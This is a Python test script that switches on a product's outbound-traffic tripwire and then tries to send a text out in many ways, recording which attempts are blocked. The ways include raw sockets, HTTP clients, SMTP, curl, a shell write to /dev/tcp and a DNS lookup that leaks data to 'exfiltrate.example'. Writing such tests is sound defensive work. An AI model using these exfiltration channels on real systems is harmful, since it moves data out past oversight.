"""A program with the product's tripwire in it that tries to send a text out in every way that Python has.

The port of somebody who listens and the text come by standard input; what became of each way goes to standard output.
"""

import asyncio
import ftplib
import http.client
import json
import smtplib
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from typing import Any
from xmlrpc.client import ServerProxy

import requests
import urllib3

from kernel.settings import Settings
from limited_use.egress import tripwire

port, text, *rest = sys.stdin.read().split("\n")
AT = ("127.0.0.1", int(port))
URL = f"http://127.0.0.1:{port}/"


def _stream() -> None:
    async def send() -> None:
        _, out = await asyncio.open_connection(*AT)
        out.write(text.encode())
        await out.drain()

    asyncio.run(send())


def _datagram() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(text.encode(), AT)


def _low_socket() -> None:
    with socket.socket() as out:
        out.connect_ex(AT)
        out.sendall(text.encode())


def _model() -> None:
    """Ask a model in the way that its vendors' clients do."""
    body = {"model": "any", "messages": [{"role": "user", "content": text}]}
    requests.post(f"{URL}v1/chat/completions", json=body, headers={"Authorization": "Bearer sk"}, timeout=2)


WAYS: dict[str, Callable[[], Any]] = {
    "requests": lambda: requests.post(URL, data=text, timeout=2),
    "a session": lambda: requests.Session().get(URL, params={"q": text}, timeout=2),
    "a model's client": _model,
    "urllib": lambda: urllib.request.urlopen(URL, data=text.encode(), timeout=2),
    "urllib3": lambda: urllib3.PoolManager().request("POST", URL, body=text, timeout=2),
    "http.client": lambda: http.client.HTTPConnection(*AT, timeout=2).request("POST", "/", text),
    "socket": lambda: socket.create_connection(AT, 2).sendall(text.encode()),
    "connect_ex": _low_socket,
    "datagram": _datagram,
    "asyncio": _stream,
    "smtplib": lambda: smtplib.SMTP(*AT, timeout=2).sendmail("a@b.example", "c@d.example", text),
    "ftplib": lambda: ftplib.FTP().connect(*AT, timeout=2),  # noqa: S321 -- the attempt
    "xmlrpc": lambda: ServerProxy(URL).send(text),
    "a look-up of a name": lambda: socket.getaddrinfo(f"{text[:20]}.exfiltrate.example", 443),
    "a program": lambda: subprocess.run(["curl", "-d", text, URL], check=True, timeout=2),
    "a shell": lambda: __import__("os").system(f"printf %s {text} > /dev/tcp/127.0.0.1/{port}"),
}

settings = Settings.from_environment(json.loads(rest[0]))
tripwire.watch(settings)
found = {}
for name, way in WAYS.items():
    try:
        got: object = way()
    except BaseException as error:  # noqa: BLE001 -- which one it was is what is asked
        names = []
        seen: BaseException | None = error
        while seen is not None:
            names.append(type(seen).__name__)
            seen = seen.__cause__ or seen.__context__
        found[name] = names
    else:
        found[name] = [f"it went through: {type(got).__name__}"]
sys.stdout.write(json.dumps(found))
